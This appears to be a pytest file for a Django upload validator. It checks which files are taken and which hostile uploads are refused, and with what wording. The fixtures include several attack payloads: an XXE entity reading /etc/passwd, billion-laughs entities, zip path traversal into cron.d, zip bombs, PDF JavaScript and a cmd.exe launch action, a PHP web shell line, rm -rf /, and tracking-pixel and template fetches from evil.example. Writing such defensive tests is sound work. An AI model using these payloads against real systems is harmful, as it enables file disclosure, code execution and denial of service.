"""What people, or those who mean harm, may send as a file; beside each what becomes of it."""

from io import BytesIO
from time import process_time
from zipfile import ZipFile
from zlib import compress

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from lscb.core import uploads
from lscb.core.exceptions import Refused
from lscb.core.uploads import Kind
from lscb.core.uploads.limits import LARGEST, MOST_PIXELS
from tests.hostile import making
from tests.hostile.making import excel, packed, png, with_part, with_relation, with_sheet, with_type, word

pytestmark = pytest.mark.once

OPEN = b"application/vnd.oasis.opendocument."
WORD_MAIN = "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
BILLION = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'


def encrypted(content: bytes) -> bytes:
    """The same folder with every entry marked as locked."""
    changed = bytearray(content)
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + flags] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)


def twice(name: str) -> bytes:
    out = BytesIO(word())
    with ZipFile(out, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr(name, b"<a/>")
    return out.getvalue()


def cut(content: bytes) -> bytes:
    return content[: len(content) // 2]


def flipped(content: bytes) -> bytes:
    at = content.find(b"PK\x01\x02") - 40
    return content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :]


TAKEN = {
    "a PDF": ("Report.pdf", making.PDF, Kind.PDF),
    "a PDF whose objects are packed": ("Report.pdf", making.pdf_with(b"1 0 <</Type/Catalog>>"), Kind.PDF),
    "a Word document": ("Report.docx", word(), Kind.WORD),
    "an Excel workbook": ("Figures.XLSX", excel(), Kind.EXCEL),
    "a chart's own small workbook in Word": (
        "Report.docx", with_part(word(), "word/embeddings/Microsoft_Excel_Sheet1.xlsx", excel()), Kind.WORD,
    ),
    "a template on one's own disk": (
        "Report.docx", with_relation(word(), "attachedTemplate", "file:///C:\\Templates\\Board.dotx"), Kind.WORD,
    ),
    "a link to a web page": ("R.docx", with_relation(word(), "hyperlink", "https://www.example.org"), Kind.WORD),
    "a dimension that lies": (
        "F.xlsx",
        with_sheet('<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>4</v></c></row></sheetData>'),
        Kind.EXCEL,
    ),
    "an empty cell in the last row, as formatting leaves it": (
        "F.xlsx", with_sheet('<sheetData><row r="1048576"><c r="XFD1048576" s="1"/></row></sheetData>'), Kind.EXCEL,
    ),
    "CSV": ("figures.csv", "Agency,Lead\r\nHope,Zoë Ōkafor".encode(), Kind.TEXT),
    "CSV as Excel writes it on Windows": ("figures.csv", "Café,£4".encode("cp1252"), Kind.TEXT),
    "CSV in UTF-16": ("figures.csv", "Café,£4".encode("utf-16"), Kind.TEXT),
    "CSV with formulas, which are only letters here": ("figures.csv", b"=1+1,@SUM(A1)", Kind.TEXT),
    "text with less-than signs": ("notes.txt", b"<5 children, > 3 schools", Kind.TEXT),
    "a PNG": ("chart.png", png(), Kind.PNG),
    "a JPEG": ("photo.jpeg", making.jpeg(), Kind.JPEG),
    "no ending": ("Report 3.2", word(), Kind.WORD),
}  # fmt: skip

REFUSED = {
    "nothing": ("a.pdf", b"", "It is empty."),
    "one byte too many": ("a.txt", b"a" * (LARGEST + 1), "It is larger than 20 MB."),
    # Another kind than its name
    "Word called PDF": ("a.pdf", word(), "Its name says one thing"),
    "a PDF called Word": ("a.docx", making.PDF, "Its name says one thing"),
    "a PDF called a program": ("a.pdf.exe", making.PDF, "Its name says one thing"),
    "text called a script": ("a.js", b"alert(1)", "Its name says one thing"),
    "text without an ending": ("a", b"alert(1)", "Its name says one thing"),
    "a Windows program": ("a.pdf", b"MZ\x90\x00\x03\x00\x00", "neither text nor any other"),
    "a Linux program": ("a.csv", b"\x7fELF\x02\x01\x01\x00", "neither text nor any other"),
    "a web page": ("a.csv", b"<!doctype html><script>alert(1)</script>", "It is a web page"),
    "a web page behind a mark and spaces": ("a.txt", b"\xef\xbb\xbf \n<html>", "It is a web page"),
    "a web page in UTF-16": ("a.txt", "<script>alert(1)</script>".encode("utf-16"), "It is a web page"),
    "a drawing that runs": ("a.txt", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x"/>', "It is a web page"),
    "a shell script": ("a.txt", b"#!/bin/sh\nrm -rf /", "or a script"),
    "rich text": ("a.txt", rb"{\rtf1\object}", "It is a web page"),
    "PostScript": ("a.txt", b"%!PS-Adobe-3.0", "It is a web page"),
    "NULs in text": ("a.csv", b"a,b\x00c", "neither text nor any other"),
    "terminal escapes in text": ("a.txt", b"\x1b]0;owned\x07", "neither text nor any other"),
    "the virus that scanners are tried with": ("a.txt", making.EICAR, "that virus scanners are tried with"),
    "the same behind other words": ("a.csv", b"Agreed\n" + making.EICAR, "that virus scanners are tried with"),
    "the same in Word": (
        "a.docx", with_part(word(), "word/media/a.txt", making.EICAR), "that virus scanners are tried with",
    ),
    # Packed folders
    "a folder": ("a.zip", packed({"a.txt": b"a"}), "It is a packed folder"),
    "a folder called Word": ("a.docx", packed({"a.txt": b"a"}), "It is a packed folder"),
    "an OpenDocument text": (
        "a.odt", packed({"mimetype": OPEN + b"text"}), "which cannot be read here. Open it, save it as .docx",
    ),
    "an OpenDocument sheet": (
        "a.ods", packed({"mimetype": OPEN + b"spreadsheet"}), "save it as .xlsx and choose that file",
    ),
    "a sheet that says so late": ("a.ods", packed({"mimetype": b"a" * 9_000 + OPEN}), "It is a packed folder"),
    "an OpenDocument sheet unpacked": (
        "a.fods", b'<?xml version="1.0"?><office:document office:mimetype="' + OPEN + b'text">', "save it as .docx",
    ),
    "half a Word document": ("a.docx", cut(word()), "It is damaged"),
    "a Word document with a byte flipped": ("a.docx", flipped(word()), "It is damaged"),
    "a folder that opens with a password": ("a.docx", encrypted(word()), "protected by a password"),
    "the same part twice": ("a.docx", twice("word/document.xml"), "It is damaged"),
    "a part without a name": ("a.docx", word().replace(b"docProps/app.xml", b"\0" * 16), "It is damaged"),
    "a part that climbs out": ("a.docx", with_part(word(), "../../etc/cron.d/a", b"* * * * *"), "It is damaged"),
    "a part at the root of the disk": ("a.docx", with_part(word(), "/etc/passwd", b"a"), "It is damaged"),
    "something before the folder": ("a.docx", b"PK\x03\x04 junk" + word(), "It is damaged"),
    "a bomb: small, large unpacked": ("a.docx", with_part(word(), "word/a.bin", bytes(30_000_000)), "Unpacked it is"),
    "a bomb of many parts": (
        "a.docx", packed({f"a{n}.txt": b"" for n in range(2_001)}, stored=True), "Unpacked it is too large",
    ),
    "a folder in a folder": ("a.docx", with_part(word(), "word/a.zip", packed({"a": b"b"})), "Another file is packed"),
    "a workbook in a workbook in Word": (
        "a.docx",
        with_part(word(), "word/embeddings/a.xlsx", with_part(excel(), "xl/embeddings/b.xlsx", excel())),
        "Another file is packed",
    ),
    "a RAR in Word": (
        "a.docx", with_part(word(), "word/media/a.png", b"Rar!\x1a\x07\x01\x00"), "Another file is packed",
    ),
    "a program in Word": ("a.docx", with_part(word(), "word/media/a.png", b"MZ\x90\x00"), "Another file is packed"),
    "an object of the old kind in Word": (
        "a.docx", with_part(word(), "word/embeddings/oleObject1.bin", making.OLD_OFFICE), "Another file is packed",
    ),
    # What runs
    "macros in Word": ("a.docx", with_part(word(), "word/vbaProject.bin", b"a"), "It holds macros"),
    "macros by the list of parts": (
        "a.docx", with_type(word(), WORD_MAIN, "vnd.ms-word.document.macroEnabled.main+xml"), "It holds macros",
    ),
    "macros in Excel's oldest way": (
        "a.xlsx", with_part(excel(), "xl/macrosheets/sheet1.xml", b"<a/>"), "It holds macros",
    ),
    "ActiveX": ("a.docx", with_part(word(), "word/activeX/activeX1.xml", b"<a/>"), "It holds macros"),
    "macros in a workbook in Word": (
        "a.docx",
        with_part(word(), "word/embeddings/a.xlsx", with_part(excel(), "xl/vbaProject.bin", b"a")),
        "It holds macros",
    ),
    "an old Excel workbook": ("a.xls", making.OLD_OFFICE, "It is in an older format"),
    "a Word document with a password": (
        "a.docx", making.OLD_OFFICE + "EncryptedPackage".encode("utf-16-le"), "protected by a password",
    ),
    # What reaches out
    "a template from elsewhere": (
        "a.docx", with_relation(word(), "attachedTemplate", "https://evil.example/a.dotm"), "It fetches something",
    ),
    "a template on somebody's share": (
        "a.docx", with_relation(word(), "attachedTemplate", r"file://\\10.0.0.9\share\a.dotm"), "It fetches something",
    ),
    "a picture that reports who opens it": (
        "a.docx", with_relation(word(), "image", "http://evil.example/pixel.png"), "It fetches something",
    ),
    "entities that multiply": ("a.docx", with_part(word(), "word/document.xml", BILLION), "It declares things"),
    "an entity that reads a file": ("a.xlsx", with_part(excel(), making.SHEET, OUTSIDE), "It declares things"),
    "entities in the list of parts": (
        "a.docx", with_part(word(), "[Content_Types].xml", BILLION), "It declares things",
    ),
    "entities under a name that is no XML's": (
        "a.docx", with_part(word(), "word/a.dat", BILLION), "It declares things",
    ),
    "markup that is none": ("a.docx", with_part(word(), "word/document.xml", b"<a><b></a>"), "It is damaged"),
    "markup a hundred deep": ("a.docx", with_part(word(), "word/a.xml", b"<a>" * 101 + b"</a>" * 101), "too involved"),
    # Sheets
    "a cell a million rows down": (
        "a.xlsx", with_sheet('<sheetData><row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'),
        "cells beyond",
    ),
    "a cell in the last column": (
        "a.xlsx", with_sheet('<sheetData><row r="1"><c r="XFD1"><v>1</v></c></row></sheetData>'), "cells beyond",
    ),
    "a row that no sheet has": ("a.xlsx", with_sheet('<sheetData><row r="99999999999"/></sheetData>'), "It is damaged"),
    "a row of other digits": ("a.xlsx", with_sheet('<sheetData><row r="١٢"/></sheetData>'), "It is damaged"),
    "a cell that is nowhere": ("a.xlsx", with_sheet('<sheetData><row><c r="A-1"/></row></sheetData>'), "It is damaged"),
    "the whole sheet merged": (
        "a.xlsx", with_sheet('<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'), "cells beyond",
    ),
    # PDFs
    "half a PDF": ("a.pdf", making.PDF[:30], "damaged or not whole"),
    "a PDF with a password": ("a.pdf", making.PDF.replace(b"/Root", b"/Encrypt 5 0 R/Root"), "protected by a password"),
    "a PDF that runs a script": ("a.pdf", making.PDF.replace(b"/Type", b"/S/JavaScript/Type"), "holds a script"),
    "a PDF that runs one, spelt in numbers": (
        "a.pdf", making.PDF.replace(b"/Type", b"/S/J#61vaScript/Type"), "holds a script",
    ),
    "a PDF that runs a packed script": ("a.pdf", making.pdf_with(b"1 0 <</S/JavaScript>>"), "holds a script"),
    "a PDF that starts a program": ("a.pdf", making.pdf_with(b"1 0 <</S/Launch/F(cmd.exe)>>"), "holds a script"),
    "a PDF with a file in it": ("a.pdf", making.PDF.replace(b"/Type", b"/EmbeddedFiles 4 0 R/Type"), "holds a script"),
    "a PDF that unpacks without end": ("a.pdf", making.pdf_with(bytes(70_000_000)), "damaged or not whole"),
    "a PDF that cannot be looked into": (
        "a.pdf", b"%PDF-1.7\n2 0 obj<</Type/ObjStm>>stream\nQQ==\nendstream endobj\n%%EOF\n", "damaged or not whole",
    ),
    "a PDF whose packed script is spelt in numbers": (
        "a.pdf", making.pdf_with(b"1 0 <</S/JavaScript>>").replace(b"/ObjStm", b"/Obj#53tm"), "damaged or not whole",
    ),
    "a PDF whose packed script begins far from its name": (
        "a.pdf",
        making.pdf_with(b"1 0 <</S/JavaScript>>").replace(b"/N 1", b"/X(" + b"a" * 500 + b")/N 1"),
        "holds a script",
    ),
    "a PDF whose form runs a script": ("a.pdf", making.PDF.replace(b"/Type", b"/XFA 4 0 R/Type"), "holds a script"),
    "a PDF of names without a stream": (
        "a.pdf", making.PDF.replace(b"%%EOF", b"/ObjStm" * 1_000_000 + b"%%EOF"), "damaged or not whole",
    ),
    "a PDF spelt in numbers all through": (
        "a.pdf", making.PDF.replace(b"%%EOF", b"#41" * 1_000_000 + b"%%EOF"), "damaged or not whole",
    ),
    "a PDF that is a folder as well": ("a.pdf", making.PDF + packed({"a.class": b"a"}), "two files in one"),
    # Pictures
    "a picture with a folder behind it": ("a.jpg", making.jpeg() + packed({"a.class": b"a"}), "two files in one"),
    "a picture with more behind its end": ("a.png", png(after=b"<?php system($_GET[0]);"), "picture is damaged"),
    "a picture without its end": ("a.png", png()[:-6], "picture is damaged"),
    "a picture whose first part is another": ("a.png", png().replace(b"IHDR", b"IDAT"), "picture is damaged"),
    "a picture of nothing": ("a.png", png(0, 4), "picture is damaged"),
    "a picture of a billion dots": ("a.png", png(40_000, 40_000), "too many pixels"),
    "a photograph of four billion": ("a.jpg", making.jpeg(65_535, 65_535), "too many pixels"),
    "a photograph without a size": ("a.jpg", b"\xff\xd8\xff\xe0\x00\x02\xff\xda", "picture is damaged"),
    "an animated picture": ("a.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "neither text nor any other"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "content", "kind"), TAKEN.values(), ids=TAKEN)
def test_what_is_taken(name, content, kind):
    assert uploads.check(SimpleUploadedFile(name, content)).kind is kind


@pytest.mark.parametrize(("name", "content", "sentence"), REFUSED.values(), ids=REFUSED)
def test_what_is_refused_and_in_which_words(name, content, sentence):
    with pytest.raises(Refused, match=sentence) as refused:
        uploads.check(SimpleUploadedFile(name, content))

    assert str(refused.value).startswith(f"“{name}” was not taken. ")


def test_packed_objects_that_never_end_are_each_looked_at_once():
    """Each was read to the end of the file: a thousand of them in two megabytes took seconds, and 20 MB hours."""
    unending = (b"/ObjStm stream\n" + compress(b"") + b" " * 20) * 15_000
    before = process_time()

    kind = uploads.check(SimpleUploadedFile("a.pdf", making.PDF.replace(b"%%EOF", unending + b"%%EOF"))).kind

    assert (kind, process_time() - before < 5) == (Kind.PDF, True)


def test_as_many_pixels_as_are_allowed_are_taken():
    assert uploads.check(SimpleUploadedFile("a.png", png(MOST_PIXELS // 1000, 1000))).kind is Kind.PNG


def test_a_kind_that_is_not_asked_for_is_refused_with_those_that_are():
    with pytest.raises(Refused) as refused:
        uploads.check(SimpleUploadedFile("a.png", png()), allowed={Kind.WORD, Kind.EXCEL, Kind.PDF})

    assert str(refused.value) == (
        "“a.png” was not taken. It is a PNG picture. "
        "Choose a PDF (.pdf), a Word document (.docx) or an Excel workbook (.xlsx)."
    )
